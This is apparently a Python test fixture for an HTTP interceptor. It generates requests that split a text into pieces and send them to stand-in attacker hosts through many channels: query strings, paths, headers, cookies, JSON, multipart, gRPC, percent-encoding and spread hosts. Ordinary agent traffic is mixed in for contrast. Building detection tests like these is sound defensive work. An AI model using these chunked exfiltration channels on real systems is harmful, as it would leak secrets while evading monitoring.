"""Ways to send a text in pieces, and ordinary traffic: for tests of what is cut over requests."""

from __future__ import annotations

import base64
import json
import random
import uuid
from collections.abc import Callable, Iterator, Sequence

from interceptor.model import Target

Unit = tuple[Target, list[tuple[bytes, bytes]], bytes]
"""Target, header fields, body."""
Way = Callable[[int, int, bytes], Unit]
"""(number of the piece from 1, how many there are, piece) -> the request that carries it."""

AGENT = [(b"user-agent", b"curl/8.5.0"), (b"accept", b"*/*"), (b"x-app", b"demo")]
JSON = (b"content-type", b"application/json")
FORM = (b"content-type", b"application/x-www-form-urlencoded")

_WORDS = tuple(
    word
    for row in (
        "user item order report invoice project issue comment release branch commit file page",
        "search query list detail account region zone cluster node token key value status state",
        "label group member team policy role model prompt message content assistant system result",
    )
    for word in row.split()
)


def unit(
    path: str,
    *fields: tuple[bytes, bytes],
    body: bytes = b"",
    host: str = "collect.attacker.example",
) -> Unit:
    """A request as curl would make it."""
    method = "POST" if body else "GET"
    own = [(name, value) for name, value in AGENT if name not in dict(fields)]
    return Target("https", host, 443, method, path), [(b"host", b"x"), *own, *fields], body


def _multipart(number: int, piece: bytes) -> Unit:
    mark = b"--boundary%d" % number
    part = b'Content-Disposition: form-data; name="f"\r\n\r\n' + piece
    body = b"%b\r\n%b\r\n%b--\r\n" % (mark, part, mark)
    return unit("/up", (b"content-type", b"multipart/form-data; boundary=" + mark[2:]), body=body)


def _grpc(piece: bytes) -> Unit:
    message = b"\x0a" + bytes([len(piece)]) + piece
    body = b"\0" + len(message).to_bytes(4, "big") + message + b"\x10\x96\x01"
    return unit("/log.Log/Send", (b"content-type", b"application/grpc"), body=body)


def _json(value: object) -> Unit:
    return unit("/events", JSON, body=json.dumps(value).encode())


def _mixed(number: int, _count: int, piece: bytes) -> Unit:
    """Each piece another way, from one place."""
    text = piece.decode()
    return (
        unit(f"/m?d={text}"),
        unit(f"/m/{text}"),
        unit("/m", (b"x-data", piece)),
        unit("/m", (b"cookie", b"d=" + piece)),
        unit("/m", JSON, body=json.dumps({"d": text}).encode()),
    )[number % 5]


WAYS: dict[str, Way] = {
    "query": lambda _i, _n, p: unit("/log?d=" + p.decode()),
    "query among others": lambda _i, _n, p: unit(f"/log?v=2&d={p.decode()}&z=last"),
    "query key": lambda _i, _n, p: unit(f"/log?{p.decode()}"),
    "path": lambda _i, _n, p: unit("/p/" + p.decode()),
    "path, file behind": lambda _i, _n, p: unit(f"/p/{p.decode()}/pixel.gif"),
    "header": lambda _i, _n, p: unit("/", (b"x-data", p)),
    "headers": lambda i, _n, p: unit("/", (b"x-data-%d" % i, p)),
    "user agent": lambda _i, _n, p: unit("/", (b"user-agent", p)),
    "cookie": lambda _i, _n, p: unit("/", (b"cookie", b"sid=abcdef; t=" + p)),
    "json": lambda _i, _n, p: _json({"kind": "event", "data": p.decode(), "more": "thing"}),
    "json array": lambda _i, _n, p: _json(["event", p.decode()]),
    "json in json": lambda _i, _n, p: _json({"text": json.dumps({"d": p.decode()})}),
    "json, escaped": lambda _i, _n, p: unit(
        "/e", JSON, body=b'{"d":"%b"}' % b"".join(b"\\u%04x" % byte for byte in p)
    ),
    "form": lambda _i, _n, p: unit("/f", FORM, body=b"a=1&d=" + p),
    "text": lambda _i, _n, p: unit("/t", (b"content-type", b"text/plain"), body=p),
    "multipart": lambda i, _n, p: _multipart(i, p),
    "grpc": lambda _i, _n, p: _grpc(p),
    "percent": lambda _i, _n, p: unit("/log?d=" + "".join(f"%{byte:02X}" for byte in p)),
    "hosts": lambda i, _n, p: unit("/log?d=" + p.decode(), host=f"h{i}.attacker{i % 3}.example"),
    "hosts, path": lambda i, _n, p: unit("/" + p.decode(), host=f"h{i}.attacker{i % 3}.example"),
    "mixed": _mixed,
}
"""In the order in which the pieces stand in the text."""

NUMBERED: dict[str, Way] = {
    "index": lambda i, _n, p: unit(f"/log?i={i}&d={p.decode()}"),
    "key with a number": lambda i, _n, p: unit(f"/log?part{i}={p.decode()}"),
    "number before": lambda i, _n, p: unit(f"/log?d={i}:{p.decode()}"),
    "number of total": lambda i, n, p: unit(f"/log?d={i}/{n}:{p.decode()}"),
    "path": lambda i, _n, p: unit(f"/{i}/{p.decode()}"),
    "json": lambda i, n, p: _json({"seq": i, "data": p.decode(), "total": n}),
    "any name": lambda i, _n, p: unit(f"/log?chapter={i}&d={p.decode()}"),
}
"""Ways that say which piece it is, so that the order in which they come does not matter."""


def cut(text: bytes, count: int) -> list[bytes]:
    """Cut into pieces of nearly the same length."""
    step = len(text) / count
    return [text[round(i * step) : round((i + 1) * step)] for i in range(count)]


class Ordinary:
    """Traffic of an agent at work: identifiers of every kind, never the same twice."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)
        names = ("api.one.example", "www.two.example", "cdn.three.example", "api.llm.example")
        self._tokens = {name: self._base64(24) for name in names}

    def units(self, count: int) -> Iterator[Unit]:
        """So many requests."""
        for _ in range(count):
            yield self._unit()

    def _base64(self, size: int) -> str:
        return base64.urlsafe_b64encode(self._random.randbytes(size)).decode().rstrip("=")

    def _slug(self) -> str:
        return "-".join(self._random.choices(_WORDS, k=self._random.randrange(1, 5)))

    def _identifier(self) -> str:
        draw = self._random
        kinds: Sequence[Callable[[], str]] = (
            lambda: str(draw.randrange(10 ** draw.randrange(1, 12))),
            lambda: str(uuid.UUID(int=draw.getrandbits(128))),
            lambda: draw.randbytes(20).hex(),
            lambda: self._base64(12),
            lambda: self._base64(30),
            lambda: "".join(draw.choices("ABCDEFGHJKMNPQRSTVWXYZ0123456789", k=26)),
            lambda: f"{draw.choice(_WORDS)}_{self._base64(16)}",
            lambda: draw.choice("abcdef") + draw.choice("xyz"),
            self._slug,
        )
        return draw.choice(kinds)()

    def _unit(self) -> Unit:
        draw = self._random
        host = draw.choice(list(self._tokens))
        fields = [*AGENT, (b"authorization", b"Bearer " + self._tokens[host].encode())]
        if draw.random() < 0.4:
            fields.append((b"x-request-id", self._identifier().encode()))
        if draw.random() < 0.2:
            fields.append((b"cookie", f"csrf={self._base64(24)}; theme=dark".encode()))
        if draw.random() < 0.2:
            fields.append((f"x-{draw.choice(_WORDS)}".encode(), self._identifier().encode()))
        names = [self._slug() if draw.random() < 0.5 else self._identifier() for _ in range(3)]
        path = "/" + "/".join(["v1", *names[: draw.randrange(1, 4)]])
        if draw.random() < 0.6:
            keys = draw.choices(("page", "limit", "cursor", "q", "ts", "id", *_WORDS), k=3)
            path += "?" + "&".join(f"{key}={self._identifier()}" for key in keys)
        body = b""
        if draw.random() < 0.5:
            words = " ".join(draw.choices(_WORDS, k=draw.randrange(3, 60)))
            value = {"content": words, "ids": [self._identifier() for _ in range(3)], "n": 7}
            body = json.dumps(value).encode()
            fields.append(JSON)
        return Target("https", host, 443, "POST" if body else "GET", path), fields, body
